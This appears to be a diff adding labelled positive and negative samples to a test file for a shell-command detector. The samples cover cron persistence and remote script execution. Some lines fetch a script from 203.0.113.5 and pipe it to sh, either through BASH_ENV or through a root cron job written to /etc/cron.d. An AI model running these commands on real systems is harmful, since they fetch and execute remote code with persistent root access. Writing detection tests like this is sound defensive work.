@@ -65,3 +65,9 @@ BASH_ENV=<(curl -s http://203.0.113.5/s) bash -c true
 BASH_ENV=./env.sh bash -c true
 #@ pos script -c with code built at run time
 script -qc "$cmd" /dev/null
+#@ pos a job written into /etc/cron.d
+echo '* * * * * root curl -s 203.0.113.5/s | sh' > /etc/cron.d/update
+#@ pos a job copied into the cron spool
+cp job /var/spool/cron/crontabs/root
+#@ neg cron's directory listed
+ls -la /etc/cron.d/
